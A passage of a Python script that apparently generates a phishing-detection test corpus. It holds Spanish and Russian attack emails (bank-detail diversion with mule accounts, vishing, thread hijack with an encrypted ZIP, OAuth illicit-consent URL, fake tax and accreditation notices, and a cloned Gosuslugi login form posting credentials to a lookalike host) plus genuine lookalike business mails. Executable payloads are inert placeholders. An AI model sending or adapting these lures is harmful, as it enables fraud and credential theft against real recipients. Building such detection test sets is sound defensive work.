Plazo para atender el requerimiento: 10 días hábiles

Puede descargar la notificación y la documentación requerida en el siguiente enlace:
%s

Transcurrido el plazo sin atender el requerimiento, se considerará rechazada la notificación y se continuará el procedimiento conforme al artículo 43 de la Ley 39/2015.

Atentamente,
Agencia Estatal de Administración Tributaria''' % url, html=True, cs='iso-8859-1', cte='qp')

    # ------------------------------------------------------------------ 32-es lookalike supplier, certificado de titularidad
    cert = pdf([(13, 'CERTIFICADO DE TITULARIDAD DE CUENTA'), '', 'Banco Santander, S.A. - Oficina 0100 Valencia', '',
                'Certificamos que la cuenta con IBAN', fi(IBAN['mule_es']), 'figura a nombre de NEUMATICA LEVANTE S.L., CIF B46218873', '',
                'Y para que conste a los efectos oportunos, se expide el presente certificado', 'en Valencia, a 5 de marzo de 2026.', '', '(firma y sello)'],
               title='Certificado titularidad')
    M(A, 32, 'es', 'Payment diversion from lookalike of a Spanish pneumatics supplier (neumatica-levante.es vs neumaticalevante.es) with a fake bank ownership certificate (certificado de titularidad) PDF; IBAN with valid Spanish control digits.',
      ('Neumática Levante – Administración', 'administracion@neumatica-levante.es'), 'fernandez',
      'Cambio de cuenta bancaria – Neumática Levante S.L.', '2026-03-05 12:48:09 +0100',
      R_host('mail.neumatica-levante.es', '151.236.24.63'),
      '''Buenos días Lucía:

Te escribo para comunicarte que hemos cambiado de entidad bancaria. A partir de ahora los pagos de nuestras facturas deberán realizarse en la cuenta de Banco Santander indicada en el certificado de titularidad que te adjunto.

Te agradecería que actualizaras vuestros datos de proveedor antes del próximo pago. Tenemos pendientes las facturas FV26-0198 y FV26-0241 (3.418,75 € en total), vencidas el 28/02; si podéis adelantar la transferencia esta semana nos ayudaríais mucho con el cierre.

Confírmame por favor cuando esté actualizado.

Un saludo,

Pilar Sanchis
Administración
Neumática Levante S.L.
Pol. Ind. Fuente del Jarro, C/ Ciudad de Sevilla 31 – 46988 Paterna (Valencia)''', html=True,
      atts=[attachment(cert, 'application/pdf', 'Certificado_titularidad_Santander.pdf')])

    # ------------------------------------------------------------------ 33-es bank callback vishing
    M(A, 33, 'es', 'Callback/vishing: fake Santander Empresas "retained transfer" alert with only a phone number (no links); aims to get OTP/remote access on the call.',
      ('Santander Empresas', 'avisos@santander-empresas-seguridad.com'), 'fernandez',
      'Operación retenida: transferencia de 14.870,00 EUR pendiente de confirmación', '2026-03-12 16:41:02 +0100',
      R_host('mail.santander-empresas-seguridad.com', '89.185.85.102'),
      '''Santander Empresas

Estimado cliente:

Por su seguridad, hemos retenido la siguiente operación ordenada desde su banca online:

Tipo: Transferencia SEPA inmediata
Importe: 14.870,00 EUR
Beneficiario: GESTIONES COMERCIALES KORVAN S.L.
Fecha: 12/03/2026 16:32

Si no reconoce esta operación, llame inmediatamente a nuestro Servicio de Seguridad de Empresas en el 910 602 437 (24 horas) indicando el código de incidencia SE-77419. Si no recibimos su llamada en los próximos 60 minutos, la operación se ejecutará automáticamente.

Por motivos de seguridad, nunca le solicitaremos sus claves por correo electrónico.

Santander Empresas – Servicio de Seguridad''', html=True)

    # ------------------------------------------------------------------ 34-es thread hijack, password-protected ZIP with JS
    js = ('// INERT TEST SAMPLE - original JScript dropper removed for this evaluation set\n'
          'var _0x4f2a=["\\x57\\x53\\x63\\x72\\x69\\x70\\x74","\\x45\\x63\\x68\\x6f"];\n'
          '// WScript.Echo("documentacion");\n').encode()
    z = zip_encrypted([('Documentacion_pedido_RDA-2026-044.js', js)], 'RDA2026')
    hist = '''De: Javier Morales Gil <j.morales@examplegroup.eu>
Enviado: martes, 3 de marzo de 2026 9:12
Para: Iñaki Otero <i.otero@conservasriadearosa.es>
Asunto: RE: Mantenimiento preventivo cerradora línea 2

Buenos días Iñaki:

Perfecto, reservamos al técnico para el lunes 16. Necesitaríamos que la línea 2 esté parada desde las 7:00 y que nos enviéis el pedido firmado con el alcance (revisión cabezal de cierre, cambio de rodillos de primera y segunda operación y calibración).

Un saludo,
Javier

De: Iñaki Otero <i.otero@conservasriadearosa.es>
Enviado: lunes, 2 de marzo de 2026 17:40
Para: Javier Morales Gil <j.morales@examplegroup.eu>
Asunto: Mantenimiento preventivo cerradora línea 2

Hola Javier, ¿podríais venir la segunda quincena de marzo a hacer el preventivo de la cerradora? Antes de la campaña del bonito queremos tenerla a punto.
Gracias, Iñaki'''
    M(A, 34, 'es', 'Thread hijack through a compromised customer mailbox (real cannery domain, real preceding thread): "signed order documentation" in a password-protected ZIP (ZipCrypto) containing a .js file (inert placeholder); password given in the body to defeat scanning.',
      ('Iñaki Otero', 'i.otero@conservasriadearosa.es'), 'morales',
      'RE: RE: Mantenimiento preventivo cerradora línea 2', '2026-03-05 13:20:44 +0100',
      R_host('smtp.conservasriadearosa.es', '82.98.134.21', client=('[192.168.1.101]', 'unknown', '41.216.188.77')),
      '''Hola Javier:

Te adjunto la documentación del pedido firmada (pedido RDA-2026-044 con el alcance del preventivo y las condiciones). Por política de protección de datos de la empresa el archivo va cifrado, la contraseña es: RDA2026

Confírmame recepción cuando puedas, que compras necesita el acuse para cerrar el expediente.

Un saludo,
Iñaki Otero
Jefe de Mantenimiento
Conservas Ría de Arosa S.L.
Tel. 986 512 388

%s''' % hist, cte='8bit', atts=[attachment(z, 'application/zip', 'Documentacion_pedido_RDA-2026-044.zip')],
      in_reply_to='<%s@examplegroup.eu>' % hid('a34', n=20, alpha='0123456789abcdef'))

    # ------------------------------------------------------------------ 35-es OAuth consent phishing via genuine Microsoft URL
    oauth = ('https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=3f9c1b7e-52a4-4d0e-8c61-b2e7a4f09d13'
             '&response_type=code&redirect_uri=https%3A%2F%2Fdocviewer-online.app%2Fauth%2Fcallback'
             '&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All%20User.Read&state=jm2026&prompt=consent')
    htm = '''<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#333">
<table width="520" cellpadding="0" cellspacing="0"><tr><td style="padding:18px 0"><b>Marta Iglesias</b> ha compartido un archivo contigo</td></tr>
<tr><td style="border:1px solid #e1e1e1;padding:16px"><span style="color:#c00;font-weight:bold">PDF</span>&nbsp; Oferta_lineas_envasado_2026.pdf<br>
<span style="font-size:12px;color:#777">Javier, te dejo la oferta revisada con los comentarios de dirección. Necesitamos vuestra respuesta antes del viernes.</span></td></tr>
<tr><td style="padding:18px 0"><a href="%s" style="background:#0f6cbd;color:#fff;padding:9px 22px;text-decoration:none;border-radius:3px">Abrir</a></td></tr>
<tr><td style="font-size:11px;color:#888">Microsoft respeta su privacidad. Para obtener más información, lea nuestra Declaración de privacidad.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table></body></html>''' % _html.escape(oauth)
    M(A, 35, 'es', 'OAuth consent phishing (illicit consent grant): OneDrive-style share from a compromised customer tenant; the "Abrir" link is a genuine login.microsoftonline.com authorize URL for a malicious multi-tenant app requesting Mail.ReadWrite/Files.ReadWrite.All with offline_access.',
      ('Marta Iglesias', 'm.iglesias@frigorificosdelsur.es'), 'morales',
      'Marta Iglesias ha compartido "Oferta_lineas_envasado_2026.pdf" contigo', '2026-03-11 12:09:37 +0100',
      R_m365('DB9PR02MB7321', 'eurprd02', 'EUR02-DB5-obe', 'mail-db5eur02on2097.outbound.protection.outlook.com', '40.107.249.97'),
      '''Marta Iglesias ha compartido un archivo contigo

Oferta_lineas_envasado_2026.pdf
Javier, te dejo la oferta revisada con los comentarios de dirección. Necesitamos vuestra respuesta antes del viernes.

Abrir: %s

Microsoft respeta su privacidad. Para obtener más información, lea nuestra Declaración de privacidad.''' % oauth,
      html=htm, mid_domain='DB9PR02MB7321.eurprd02.prod.outlook.com')

    # ------------------------------------------------------------------ 36-ru fake FNS requirement, archive with .scr (KOI8-R)
    scr = b'MZ\x90\x00' + b'\x00' * 60 + b'INERT TEST SAMPLE - executable payload removed for evaluation set\x00'
    z = zipbytes([('Требование_12-07-4816.pdf.scr', scr), ('Приложение_перечень_документов.pdf.scr', scr)])
    M(A, 36, 'ru', 'Fake Federal Tax Service (ФНС) "требование о представлении документов" with a ZIP containing .pdf.scr executables (inert placeholders); KOI8-R base64 body, classic Russian-language malspam.',
      ('ИФНС России N 7 по г. Москве', 'trebovanie@nalog-gov.ru.com'), 'morozova',
      'Требование о представлении документов (информации) N 12-07/4816', '2026-03-10 10:14:33 +0300',
      R_host('mail.nalog-gov.ru.com', '194.58.112.174'),
      '''ИНСПЕКЦИЯ ФЕДЕРАЛЬНОЙ НАЛОГОВОЙ СЛУЖБЫ N 7 ПО Г. МОСКВЕ

Руководителю ООО "ЭКЗАМПЛ ГРУП РУС"
ИНН 7707483921

Уважаемый налогоплательщик!

В соответствии со статьей 93.1 Налогового кодекса Российской Федерации в связи с проведением мероприятий налогового контроля в отношении Вашего контрагента необходимо в течение 5 (пяти) рабочих дней со дня получения настоящего требования представить документы (информацию), указанные в приложении.

Требование и перечень документов направлены во вложении к настоящему письму.

Непредставление документов в установленный срок влечет ответственность, предусмотренную статьей 126 НК РФ.

Заместитель начальника инспекции
советник государственной гражданской службы РФ 2 класса
Е.В. Лаптева''', cs='koi8-r', cte='b64',
      atts=[attachment(z, 'application/zip', 'Требование_12-07-4816.zip')])

    # ------------------------------------------------------------------ 37-ru counterparty bank details change (windows-1251)
    M(A, 37, 'ru', 'Bank-details change ("смена реквизитов") from lookalike of the Russian logistics partner (tl-sz.ru vs tlsz.ru) with Russian account number/BIC/corr. account (valid control key) and urgency to pay before quarter end; windows-1251 quoted-printable.',
      ('ООО ТрансЛогистик Северо-Запад', 'buh@tl-sz.ru'), 'morozova',
      'Уведомление о смене банковских реквизитов', '2026-03-11 11:52:06 +0300',
      R_host('mail.tl-sz.ru', '91.218.114.30'),
      '''Добрый день, Ольга Викторовна!

Настоящим уведомляем Вас о смене банковских реквизитов ООО «ТрансЛогистик Северо-Запад» в связи с переходом на обслуживание в другой банк. С 11.03.2026 просим производить оплату по всем счетам только по новым реквизитам:

Получатель: ООО «ТрансЛогистик Северо-Запад»
ИНН 7810642211 / КПП 781001001
Р/с %s
Банк: АО «ТБанк», г. Москва
К/с %s
БИК %s

Прежний расчётный счёт в ПАО «Банк «Санкт-Петербург» будет закрыт 20.03.2026, платежи на него не будут зачислены.

Просим оплатить счета № 0214, 0227 и 0241 (итого 486 300,00 руб.) по новым реквизитам до конца недели, письмо на фирменном бланке с подписью генерального директора направим оригиналом с ближайшими документами.

С уважением,
Главный бухгалтер
ООО «ТрансЛогистик Северо-Запад»
Н.А. Гусева
тел. +7 (812) 409-18-72''' % (RU['mule_acc'], RU['mule_ks'], RU['mule_bik']), cs='windows-1251', cte='qp', html=True)

    # ------------------------------------------------------------------ 38-ru fake director, "FSB curator" scam
    M(A, 38, 'ru', 'Fake director ("фейк-босс") scam: the Russian general director\'s name on a Yandex address warns the chief accountant of an "FSB/Central Bank inspection" and instructs her to cooperate confidentially with a "curator" who will call (prelude to money transfer / remote access).',
      ('Дмитрий Соколов', 'd.sokolov.examplegroup@yandex.ru'), 'morozova',
      'Конфиденциально', '2026-03-06 09:27:15 +0300',
      [hop('[127.0.0.1]', '95.108.213.40', 'mail-nwsmtp-smtp-production-main-62.sas.yp-c.yandex.net', 'ESMTPSA', 'unknown'),
       hop('forward500a.mail.yandex.net', '178.154.239.80', MX, 'ESMTPS')],
      '''Ольга Викторовна, доброе утро.

Пишу с личной почты, корпоративную сейчас использовать нельзя, объясню позже.

Вчера ко мне обратились сотрудники ФСБ и Центрального банка. В отношении нашей организации и нескольких контрагентов проводится проверка по факту возможного вывода средств за рубеж. Есть подозрение, что кто-то из сотрудников бухгалтерии передаёт данные третьим лицам.

Сегодня с Вами свяжется куратор проверки, полковник Григорьев Алексей Николаевич. Прошу Вас оказать ему полное содействие и выполнять его указания. Информация строго конфиденциальна, никому из коллег, в том числе в Германии, о проверке не сообщать — это может навредить компании и лично нам.

По результатам разговора отпишитесь мне сюда.

Д.А. Соколов
Генеральный директор''', mid_domain='yandex.ru', cte='b64')

    # ------------------------------------------------------------------ 39-ru fake Diadoc notification (KOI8-R)
    url = 'https://diadoc-kontur.online/Box/Document?d=UPD-318-060326&box=7707483921'
    M(A, 39, 'ru', 'Fake Kontur.Diadoc EDI notification ("УПД на подпись"), lookalike domain diadoc-kontur.online, link to fake login; KOI8-R multipart/alternative.',
      ('Контур.Диадок', 'noreply@diadoc-kontur.online'), 'morozova',
      'Вам поступил документ на подпись от ООО "Мясокомбинат Заречный"', '2026-03-06 15:02:48 +0300',
      R_host('smtp.diadoc-kontur.online', '185.215.113.66'),
      '''Контур.Диадок

Вам поступил документ, требующий подписи

Отправитель: ООО "Мясокомбинат Заречный" (ИНН 5024118730)
Получатель: ООО "ЭКЗАМПЛ ГРУП РУС"
Документ: УПД N 318 от 06.03.2026 на сумму 1 284 600,00 руб.
Статус: ожидает подписи

Открыть документ: %s

Срок подписания по регламенту ЭДО: 2 рабочих дня. Неподписанные документы будут считаться принятыми без разногласий.

Это письмо сформировано автоматически, не отвечайте на него.
СКБ Контур''' % url, cs='koi8-r', cte='qp', html=True)

    # ------------------------------------------------------------------ 40-ru fake Rosakkreditatsiya, HTML attachment (Gosuslugi)
    page = '''<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"><title>Госуслуги – Вход</title>
<style>body{font-family:Arial;background:#f5f7fa}.w{width:360px;margin:70px auto;background:#fff;padding:32px;border-radius:12px}
input{width:100%;padding:10px;margin:8px 0;border:1px solid #c4cad4;border-radius:6px}button{width:100%;background:#0d4cd3;color:#fff;border:0;padding:12px;border-radius:8px}</style></head>
<body><div class="w"><h3 style="color:#0d4cd3">госуслуги</h3><p style="font-size:13px">Для просмотра уведомления Росаккредитации войдите через ЕСИА</p>
<form action="https://esia-gosuslugi.ru-login.site/auth" method="post"><input name="login" placeholder="Телефон / Email / СНИЛС"><input name="pass" type="password" placeholder="Пароль">
<button>Войти</button></form></div></body></html>'''
    M(A, 40, 'ru', 'Fake Rosakkreditatsiya notice about suspension of an EAEU declaration of conformity (TR CU 010/2011 machinery) for the company\'s machines; HTML attachment is a Gosuslugi (ESIA) login clone.',
      ('Росаккредитация', 'uvedomlenie@fsa-reestr.ru.net'), 'sokolov',
      'Уведомление о приостановлении действия декларации о соответствии ЕАЭС N RU Д-DE.РА01.В.48213/24', '2026-03-12 12:37:59 +0300',
      R_host('mail.fsa-reestr.ru.net', '194.87.71.206'),
      '''Федеральная служба по аккредитации (Росаккредитация)

Уважаемый заявитель!

По результатам проверки сведений, содержащихся в Едином реестре сертификатов соответствия и зарегистрированных деклараций о соответствии, принято решение о приостановлении действия декларации о соответствии ЕАЭС N RU Д-DE.РА01.В.48213/24 (оборудование для упаковки пищевой продукции, ТР ТС 010/2011 "О безопасности машин и оборудования").

Основание: несоответствие протоколов испытаний, указанных в декларации.

Для ознакомления с уведомлением и представления возражений в течение 3 рабочих дней откройте вложение и авторизуйтесь через ЕСИА (Госуслуги).

С уважением,
Управление контроля и надзора
Росаккредитация''', html=True,
      atts=[attachment(page.encode('utf-8'), 'text/html; charset="utf-8"', 'Уведомление_Росаккредитация.html')])


# =========================================================================== BUSINESS
def business():
    B = 'business'
    LIEF = R_host('mail.lieferant-gmbh.de', '85.13.146.72', client=('ERP-SRV02.lieferant.local', 'dsl-85-13-146-1.lieferant-gmbh.de', '85.13.146.1'))
    # ------------------------------------------------------------------ 01-de genuine dunning from supplier
    inv = pdf([(14, 'Lieferant GmbH - Antriebs- und Foerdertechnik'), 'Gewerbepark Ost 7, 33609 Bielefeld', '',
               (12, '1. ZAHLUNGSERINNERUNG'), 'Datum: 20.02.2026   Kunden-Nr. 20418', '',
               'Rechnung RE-2026-00981 vom 15.01.2026, faellig am 14.02.2026', 'Offener Betrag: 9.864,12 EUR', '',
               'Sicherlich handelt es sich um ein Versehen. Bitte ueberweisen Sie den Betrag bis 02.03.2026.', '',
               'Bankverbindung: Volksbank Bielefeld-Guetersloh eG', 'IBAN %s   BIC GENODEM1GTL' % fi(IBAN['lief_old']), '',
               'Geschaeftsfuehrer: Dr. Rainer Maier   AG Bielefeld HRB 31877   USt-IdNr. DE812937465'], title='Zahlungserinnerung 20418')
    M(B, 1, 'de', 'Genuine automated dunning letter from the supplier\'s ERP via its real mail server; known supplier account (old Volksbank IBAN). Suspicious-looking: "Zahlungserinnerung", PDF attachment, payment pressure, no personal greeting.',
      ('Lieferant GmbH Buchhaltung', 'rechnungen@lieferant-gmbh.de'), RECHNUNG,
      '1. Zahlungserinnerung – Kunden-Nr. 20418 – RE-2026-00981', '2026-02-20 06:15:02 +0100', LIEF,
      '''Sehr geehrte Damen und Herren,

bei der Durchsicht unserer Konten haben wir festgestellt, dass die unten aufgeführte Rechnung noch offen ist:

RE-2026-00981 vom 15.01.2026, fällig am 14.02.2026, offener Betrag 9.864,12 EUR

Sicherlich handelt es sich um ein Versehen. Wir bitten Sie, den Betrag bis zum 02.03.2026 auf unser bekanntes Konto zu überweisen. Sollten Sie die Zahlung zwischenzeitlich veranlasst haben, betrachten Sie dieses Schreiben bitte als gegenstandslos.

Die Zahlungserinnerung finden Sie im Anhang als PDF.

Mit freundlichen Grüßen
Lieferant GmbH – Buchhaltung
Gewerbepark Ost 7 | 33609 Bielefeld
Tel. +49 521 98765-0 | www.lieferant-gmbh.de

Diese E-Mail wurde automatisch aus unserem ERP-System erstellt.''', mid_domain='lieferant-gmbh.de',
      atts=[attachment(inv, 'application/pdf', 'Zahlungserinnerung_20418_RE-2026-00981.pdf')], cte='qp')

    # ------------------------------------------------------------------ 02-de genuine bank change (Volksbank merger), verify by phone
    letter = pdf([(14, 'Lieferant GmbH'), 'Gewerbepark Ost 7, 33609 Bielefeld', '', 'Bielefeld, 02.03.2026', '',
                  (12, 'Aenderung unserer Bankverbindung zum 01.04.2026'), '',
                  'Durch die Fusion der Volksbank Bielefeld-Guetersloh eG mit der Volksbank in Ostwestfalen eG',
                  'aendern sich BIC und IBAN unseres Geschaeftskontos. Die Kontonummer bleibt unveraendert.', '',
                  'Bisher:  IBAN %s  BIC GENODEM1GTL' % fi(IBAN['lief_old']),
                  'Neu ab 01.04.2026:  IBAN %s  BIC GENODEM1GTL' % fi(IBAN['lief_new']), '',
                  'Zahlungen auf die bisherige IBAN werden bis 30.09.2026 automatisch weitergeleitet.', '',
                  'Bitte verifizieren Sie diese Aenderung telefonisch unter der Ihnen bereits bekannten',
                  'Rufnummer unserer Buchhaltung - nicht unter einer Nummer aus einer E-Mail.', '',
                  'Mit freundlichen Gruessen', 'Dr. Rainer Maier, Geschaeftsfuehrer      Petra Kolbe, Leitung Finanzen'], title='Bankverbindung')
    M(B, 2, 'de', 'Genuine bank-detail change from the real supplier (bank merger, IBAN changes but account number stays, old IBAN forwarded); explicitly asks to verify by telephone via the known number. Looks like classic BEC: "new bank details", PDF letter, sent shortly before attack 01.',
      ('Sebastian Maier', 's.maier@lieferant-gmbh.de'), 'krueger',
      'Änderung unserer Bankverbindung zum 01.04.2026 (Bankfusion)', '2026-03-02 10:41:37 +0100',
      R_host('mail.lieferant-gmbh.de', '85.13.146.72', client=('[192.168.10.57]', 'dsl-85-13-146-1.lieferant-gmbh.de', '85.13.146.1')),
      '''Sehr geehrte Frau Krüger,

unsere Buchhaltung bat mich, Ihnen als unserem Ansprechpartner das beigefügte Schreiben weiterzuleiten: Durch die Fusion unserer Hausbank ändern sich zum 01.04.2026 IBAN und BIC unseres Geschäftskontos. Die Kontonummer und der Kontoinhaber bleiben gleich, Zahlungen auf die alte IBAN werden noch bis Ende September weitergeleitet.

Bitte stellen Sie nichts allein aufgrund dieser E-Mail um. Frau Kolbe aus unserer Finanzbuchhaltung ist unter der Ihnen bekannten Zentralnummer erreichbar und bestätigt Ihnen die Änderung gern telefonisch. Das Original geht Ihnen zusätzlich per Post zu.

Wir werden Sie niemals per E-Mail zu einer eiligen Zahlung auf ein anderes Konto auffordern.

Mit freundlichen Grüßen
Sebastian Maier
Vertriebsinnendienst
Lieferant GmbH | Antriebs- und Fördertechnik
Gewerbepark Ost 7 | 33609 Bielefeld
Tel. +49 521 98765-142''', html=True, cc='vogel', mid_domain='lieferant-gmbh.de',
      atts=[attachment(letter, 'application/pdf', 'Schreiben_Bankverbindung_2026-03-02.pdf')],
      extra=[('X-Mailer', 'Microsoft Outlook 16.0')])

    # ------------------------------------------------------------------ 03-de internal urgent CEO -> CFO
    M(B, 3, 'de', 'Genuine urgent internal mail CEO to CFO via the internal relay: approve an advance payment today for a known customer project; looks like CEO fraud (urgency, payment, "heute noch"), but refers to existing SAP workflow and board decision and gives no bank details.',
      'brenner', 'hoffmann', 'Anzahlung Kühlturm-Projekt Rheda – bitte heute noch freigeben', '2026-03-09 11:58:12 +0100',
      R_int('DEGT-NB0107', '10.20.41.107'),
      '''Katrin,

kurze Bitte: Die Anzahlung an Ammeraal Beltech für die Spiralbänder (Projekt 24-0877, Kunde Rheda) muss heute noch raus, sonst verlieren wir den Fertigungsslot und die Inbetriebnahme rutscht in den Juni. Markus hat die Bestellung im SAP angelegt, die Freigabe hängt nur noch bei dir (Workflow 2. Stufe, 86.400 EUR netto, 30 % Anzahlung laut AB).

Wir hatten das am Donnerstag im Vorstand besprochen. Wenn du Fragen hast, ruf mich an, ich bin bis 14 Uhr im Haus, danach im Flieger nach Mailand.

Danke!
Matthias

--
Dr. Matthias Brenner
Vorsitzender des Vorstands
Example Group SE | Industriestraße 12 | 33334 Gütersloh
Tel. +49 5241 7080-100''', html=True, cc='vogel', mid_domain='example.com',
      extra=[('X-MS-Has-Attach', ''), ('X-MS-Exchange-Organization-SCL', '-1')])

    # ------------------------------------------------------------------ 04-de genuine Microsoft 365 renewal notice to admin
    M(B, 4, 'de', 'Genuine Microsoft 365 admin notification (subscription renewal) to the IT admin from microsoft.com via Microsoft infrastructure; looks like the callback/renewal scams (amounts, "Aktion erforderlich") but links only to admin.microsoft.com.',
      ('Microsoft 365', 'microsoft-noreply@microsoft.com'), 'lang',
      'Ihr Abonnement Microsoft 365 E3 wird am 1. April 2026 verlängert', '2026-03-02 02:14:55 +0000',
      [hop('DM6PR03MB5290.namprd03.prod.outlook.com', '2603:10b6:5:1d3::15', 'CY4PEPF0000EE3E.namprd03.prod.outlook.com', 'Microsoft SMTP Server', 'DM6PR03MB5290.namprd03.prod.outlook.com'),
       hop('NAM12-MW2-obe.outbound.protection.outlook.com', '40.107.92.57', MX, 'ESMTPS', 'mail-mw2nam12on2057.outbound.protection.outlook.com')],
      '''Microsoft 365 admin center

Ihr Abonnement wird bald verlängert

Guten Tag Tobias Lang,

Ihr Abonnement Microsoft 365 E3 (Jahresabonnement, 640 Lizenzen) für Example Group SE wird am 1. April 2026 automatisch verlängert. Es ist keine Aktion erforderlich, wenn Sie das Abonnement mit der aktuellen Lizenzanzahl fortsetzen möchten.

Wenn Sie Lizenzen reduzieren oder die Verlängerung ändern möchten, melden Sie sich im Microsoft 365 Admin Center an:
https://admin.microsoft.com/Adminportal/Home#/subscriptions

Abonnement-ID: 5b2c7d10-9e44-4a1f-8c3a-1f07e2d6a9b4
Abrechnungskonto: Example Group SE

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 USA
Datenschutzbestimmungen: https://go.microsoft.com/fwlink/?LinkId=521839''', html=True, mid_domain='microsoft.com')

    # ------------------------------------------------------------------ 05-de genuine ELSTER notice
    M(B, 5, 'de', 'Genuine ELSTER notification about a new tax assessment in the Mein ELSTER mailbox; no link to click, no attachment, tells the reader to log in at elster.de. Same theme as attack 05.',
      ('ELSTER', 'noreply@elster.de'), 'hoffmann',
      'Neue Nachricht in Ihrem Postfach bei Mein ELSTER', '2026-03-04 05:31:10 +0100',
      R_host('mout03.elster.de', '193.109.238.77'),
      '''Sehr geehrte Nutzerin, sehr geehrter Nutzer,

in Ihrem Postfach bei Mein ELSTER ist eine neue Nachricht eingegangen.

Bitte melden Sie sich unter www.elster.de bei Mein ELSTER an, um die Nachricht abzurufen. Aus Sicherheitsgründen enthalten unsere E-Mails keine Links oder Anhänge.

Diese E-Mail wurde automatisch erzeugt. Bitte antworten Sie nicht auf diese E-Mail.

Mit freundlichen Grüßen
Ihr ELSTER-Team''', cs='iso-8859-1', cte='qp', mid_domain='elster.de')

    # ------------------------------------------------------------------ 06-de customs broker, export control Russia
    abd = pdf([(13, 'Ausfuhrbegleitdokument (ABD) - Entwurf'), 'MRN 26DE4302XXXXXX4R7 (vorlaeufig)', '',
               'Ausfuehrer: Example Group SE, EORI DE4418270000', 'Empfaenger: OOO Example Group Rus, Moskau',
               'Ware: Ersatzteile fuer Verpackungsmaschinen (Heizbacken, Messer, Dichtungen)', 'Warennummern: 8422 90 90, 8484 90 00',
               'Rohmasse 412 kg, 3 Colli, Wert 18.730,00 EUR', '',
               'Offene Punkte: Bestaetigung Nicht-Listung / Art. 3k VO 833/2014, Endverbleibserklaerung'], title='ABD Entwurf')
    M(B, 6, 'de', 'Genuine mail from the company\'s customs broker about an export declaration (ATLAS) for a spare-parts shipment to the Russian subsidiary; asks urgently for the export-control confirmation and end-use statement. Suspicious-looking: Russia, sanctions wording, urgency, PDF.',
      ('Katja Brandt | Hafen-Zollagentur', 'k.brandt@zollagentur-hh.de'), 'lindner',
      'Ausfuhr 26-0311 Ersatzteile nach Moskau – fehlende Unterlagen Art. 3k / Endverbleib (eilt)', '2026-03-11 13:26:40 +0100',
      R_m365('FR4P281MB3874', 'DEUP281', 'DEU01-FR2-obe', 'mail-fr2deu01on2108.outbound.protection.outlook.com', '40.107.135.108'),
      '''Sehr geehrte Frau Dr. Lindner,

für die Sendung 26-0311 (3 Colli Ersatzteile, Empfänger OOO Example Group Rus) haben wir die Ausfuhranmeldung in ATLAS vorbereitet, können sie aber noch nicht abgeben.

Das Hauptzollamt Bielefeld verlangt bei Ausfuhren nach Russland inzwischen bei jeder Sendung unter Position 8422 eine Bestätigung, dass die Waren nicht unter Anhang XXIII bzw. Art. 3k der VO (EU) 833/2014 fallen oder eine Ausnahme greift, sowie eine aktuelle Endverbleibserklärung des Empfängers. Die letzte Erklärung, die uns vorliegt, ist vom Oktober.

Der LKW der Spedition ist für Freitag 10 Uhr angemeldet. Wenn wir die Unterlagen bis Donnerstagmittag haben, bekommen wir die Gestellung noch hin, sonst müssten wir den Termin verschieben.

Den ABD-Entwurf habe ich Ihnen zur Prüfung angehängt.

Mit freundlichen Grüßen

Katja Brandt
Zollabwicklung Export
Hafen-Zollagentur Hamburg GmbH
Tel. +49 40 3197 448-23''', html=True, cc='vogel', mid_domain='FR4P281MB3874.DEUP281.PROD.OUTLOOK.COM',
      atts=[attachment(abd, 'application/pdf', 'ABD_Entwurf_26-0311.pdf')])

    # ------------------------------------------------------------------ 07-de interpack exhibitor newsletter
    nl = 'https://news.messe-duesseldorf.de/c/%s' % hid('b7', n=16, alpha=B62)
    htm = '''<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f0f0f0;font-family:Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#e2001a;color:#fff;padding:18px 24px;font-size:24px;font-weight:bold">interpack 2026 <span style="font-weight:normal;font-size:14px">7.–13. Mai · Düsseldorf</span></td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:1.5">
<p>Sehr geehrter Herr Özdemir,</p>
<p>noch neun Wochen bis zur interpack 2026! Hier die wichtigsten Termine für Ihren Messeauftritt:</p>
<ul><li><b>20. März:</b> Redaktionsschluss für den Eintrag im Ausstellerverzeichnis – bitte prüfen Sie Ihre Angaben im <a href="%s1">Exhibitor Shop</a>.</li>
<li><b>31. März:</b> Bestellschluss für Standbaustrom, Wasser/Druckluft und Hallenabhängungen.</li>
<li><b>15. April:</b> Ausstellerausweise und E-Tickets für Kunden im <a href="%s2">Online Ticketshop</a>.</li></ul>
<p><b>Wichtiger Hinweis:</b> Immer wieder erhalten Aussteller Angebote von Firmen, die Hotelzimmer, Adressdaten oder Einträge in „Messeverzeichnissen“ anbieten. Die Messe Düsseldorf arbeitet mit keinem externen Housing-Büro zusammen. <a href="%s3">Mehr zu unseriösen Angeboten</a></p>
<p>Ihr interpack Team</p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777">Messe Düsseldorf GmbH · Messeplatz · 40474 Düsseldorf · Amtsgericht Düsseldorf HRB 63 · <a href="%s4">Newsletter abbestellen</a></td></tr></table>
<img src="https://news.messe-duesseldorf.de/o/%s.gif" width="1" height="1" alt=""></body></html>''' % (nl, nl, nl, nl, hid('b7o', n=20, alpha=B62))
    M(B, 7, 'de', 'Genuine exhibitor newsletter from Messe Düsseldorf (interpack 2026) sent by its mailing service: tracking redirect links, tracking pixel, deadlines; even warns about housing scams. Shares brand/event with attack 15.',
      ('interpack 2026', 'newsletter@messe-duesseldorf.de'), 'oezdemir',
      'interpack 2026: Ihre Aussteller-Checkliste – Fristen im März und April', '2026-03-05 10:00:04 +0100',
      R_host('mta14.news.messe-duesseldorf.de', '185.56.144.14'),
      '''interpack 2026 – 7.–13. Mai, Düsseldorf

Sehr geehrter Herr Özdemir,

noch neun Wochen bis zur interpack 2026! Hier die wichtigsten Termine für Ihren Messeauftritt:

20. März: Redaktionsschluss für den Eintrag im Ausstellerverzeichnis (Exhibitor Shop)
31. März: Bestellschluss für Standbaustrom, Wasser/Druckluft und Hallenabhängungen
15. April: Ausstellerausweise und E-Tickets im Online Ticketshop

Wichtiger Hinweis: Immer wieder erhalten Aussteller Angebote von Firmen, die Hotelzimmer, Adressdaten oder Einträge in „Messeverzeichnissen“ anbieten. Die Messe Düsseldorf arbeitet mit keinem externen Housing-Büro zusammen.

Ihr interpack Team

Newsletter abbestellen: %s4''' % nl, html=htm,
